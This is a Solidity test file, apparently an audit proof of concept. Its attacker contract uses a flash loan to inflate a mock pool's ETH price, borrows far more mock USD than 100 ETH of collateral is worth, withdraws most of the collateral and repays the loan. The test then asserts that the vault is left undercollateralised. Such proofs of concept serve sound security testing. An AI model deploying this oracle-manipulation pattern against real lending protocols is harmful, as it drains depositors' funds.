// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {Fixture} from "../harness/Fixture.sol";
import {IVault} from "../harness/Interfaces.sol";
import {Release} from "../harness/Release.sol";
import {VM} from "../harness/Vm.sol";
import {FlashLender} from "../mocks/FlashLender.sol";
import {MockPool} from "../mocks/MockPool.sol";
import {MockUSD} from "../mocks/MockUSD.sol";

/// @notice A flash loan sets the pool's price; one ETH then borrows what 27 would.
contract PoolPrice is Fixture {
    function test_flashLoanBorrowsMoreThanTheCollateralIsWorth() external {
        _deposit(makeAddr("lp"), 1_000_000e18);
        uint256 cash = usd.balanceOf(address(vault));

        PoolPriceAttacker attacker = new PoolPriceAttacker(vault, usd, pool, lender);
        VM.deal(address(this), 100 ether);
        attacker.run{value: 100 ether}(Release.available(vault, usd));

        uint256 taken = usd.balanceOf(address(attacker));
        (uint128 collateral, uint128 debt,) = vault.positions(address(attacker));
        emit log_named_decimal_uint("taken, mUSD", taken, 18);
        emit log_named_decimal_uint("of the vault's cash, mUSD", cash, 18);
        emit log_named_decimal_uint("collateral left behind, ETH", collateral, 18);
        assertGt(debt, uint256(collateral) * 2_000 * 75 / 100, "the debt is covered at the feed's price");
        assertGt(taken, uint256(collateral) * 2_000, "leaving the collateral costs more than was taken");
    }
}

contract PoolPriceAttacker {
    IVault private immutable VAULT;
    MockUSD private immutable USD;
    MockPool private immutable POOL;
    FlashLender private immutable LENDER;

    uint256 private wanted;

    constructor(IVault vault, MockUSD usd, MockPool pool, FlashLender lender) {
        VAULT = vault;
        USD = usd;
        POOL = pool;
        LENDER = lender;
    }

    receive() external payable {}

    function run(uint256 amount) external payable {
        wanted = amount;
        LENDER.flash(10_000_000e18);
    }

    function onFlashLoan(uint256 loan) external {
        VAULT.addCollateral{value: 100 ether}();
        USD.approve(address(POOL), loan);
        uint256 bought = POOL.buyEth(loan);
        VAULT.borrow(wanted);
        VAULT.withdrawCollateral(100 ether - (wanted * 100 / (POOL.quote() * 75 / 1e18) + 1));
        POOL.sellEth{value: bought}();
        require(USD.transfer(address(LENDER), loan));
    }
}
